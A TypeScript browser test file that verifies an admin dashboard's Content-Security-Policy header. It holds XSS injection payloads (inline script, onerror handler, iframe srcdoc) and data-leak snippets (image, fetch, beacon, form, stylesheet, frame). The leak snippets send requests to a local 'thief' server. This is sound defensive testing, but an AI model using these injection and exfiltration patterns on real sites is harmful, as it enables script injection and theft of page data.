import { once } from "node:events";
import { type Server, createServer } from "node:http";
import type { AddressInfo } from "node:net";

import type { Browser, Page } from "playwright-core";
import { expect } from "vitest";

import { expectSettled, test } from "../support/browser.ts";
import { eventually } from "../support/harness.ts";

const POLICY = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self' data:",
  "font-src 'self'",
  "connect-src 'self'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "base-uri 'none'",
].join("; ");

/** What somebody would try who got a line of HTML into a page: each sets `document.title` to "owned" when it runs. */
const INJECTIONS = {
  "an inline script": `<script>document.title = "owned"</script>`,
  "a handler in an attribute": `<img src="/missing.png" onerror="document.title = 'owned'">`,
  "a frame with a script": `<iframe srcdoc="<script>parent.document.title = 'owned'</script>"></iframe>`,
};

/** What somebody would try who wants to send away what a page shows. */
const LEAKS = {
  "a picture": `new Image().src = url`,
  "a request": `fetch(url, { mode: "no-cors" }).catch(() => undefined)`,
  "a beacon": `navigator.sendBeacon(url, "names")`,
  "a form": `Object.assign(document.body.appendChild(document.createElement("form")), { action: url }).submit()`,
  "a style sheet": `Object.assign(document.head.appendChild(document.createElement("link")), { rel: "stylesheet", href: url })`,
  "a frame": `document.body.appendChild(document.createElement("iframe")).src = url`,
};

interface PlainServer extends AsyncDisposable {
  readonly url: string;
  /** What it was asked for. */
  readonly asked: readonly string[];
}

/** A page of nothing, without any policy. */
async function startPlainServer(): Promise<PlainServer> {
  const asked: string[] = [];
  const server: Server = createServer((request, response) => {
    asked.push((request.url ?? "").split("?")[0] ?? "");
    response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>mine</title><body>");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

/** A page of the dashboard in a window where nobody counts violations: here they are wanted. */
async function openUnwatched(browser: Browser, url: string): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(url);
  return page;
}

/** Puts HTML into the page as a careless page would: scripts in it are made anew, so that they would run. */
async function inject(page: Page, html: string): Promise<void> {
  await page.evaluate((text) => {
    document.body.append(document.createRange().createContextualFragment(text));
  }, html);
}

test("every page and every file of the dashboard comes with the strict policy", async ({ open, world }) => {
  const page = await open({ role: "admin" });
  const seen = new Map<string, string | undefined>();
  page.on("response", (response) => {
    const { pathname } = new URL(response.url());
    if (pathname.startsWith("/ops/")) seen.set(pathname, response.headers()["content-security-policy"]);
  });
  for (const path of ["/", "/accounts", "/events", "/endpoints", "/endpoints/crm", "/system", "/nowhere"]) {
    await page.goto(`${world.url}/ops${path}`);
    await expectSettled(page);
  }

  expect([...seen].filter(([, policy]) => policy !== POLICY)).toEqual([]);
  expect([...seen.keys()]).toEqual(
    expect.arrayContaining(["/ops/", "/ops/nowhere", expect.stringMatching(/^\/ops\/assets\/.*\.css$/)]),
  );
});

test.for(Object.entries(INJECTIONS))(
  "%s does not run in a page of the dashboard",
  async ([, html], { browser, world }) => {
    await using plain = await startPlainServer();
    const page = await openUnwatched(browser, `${world.url}/ops/sign-in`);
    await inject(page, html);

    // The twin, and the end of the wait: without the header it would.
    const other = await openUnwatched(browser, plain.url);
    await inject(other, html);
    await expect.poll(async () => await other.title()).toBe("owned");
    expect(await page.title()).not.toBe("owned");
    await page.close();
    await other.close();
  },
);

test.for(Object.entries(LEAKS))(
  "%s carries nothing from the dashboard to another host",
  async ([, code], { browser, world }) => {
    await using thief = await startPlainServer();
    await using plain = await startPlainServer();
    const page = await openUnwatched(browser, `${world.url}/ops/sign-in`);
    const run = async (on: Page, place: string): Promise<void> => {
      await on.evaluate(`(() => { const url = ${JSON.stringify(`${thief.url}/${place}`)}; ${code}; })()`);
    };
    await run(page, "from-dashboard");

    // The twin, and the end of the wait: what is sent later has come.
    const other = await openUnwatched(browser, plain.url);
    await run(other, "from-elsewhere");
    await eventually(() => thief.asked.includes("/from-elsewhere") || undefined);
    expect(thief.asked).not.toContain("/from-dashboard");
    await page.close();
    await other.close();
  },
);

test("no other site can show the dashboard in a frame", async ({ browser, world }) => {
  await using plain = await startPlainServer();
  const page = await openUnwatched(browser, plain.url);
  const refused = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
  await page.evaluate((url) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: url }));
  }, `${world.url}/ops/sign-in`);
  await refused;

  expect(await page.frameLocator("iframe").getByLabel("Token").count()).toBe(0);
  await page.close();
});
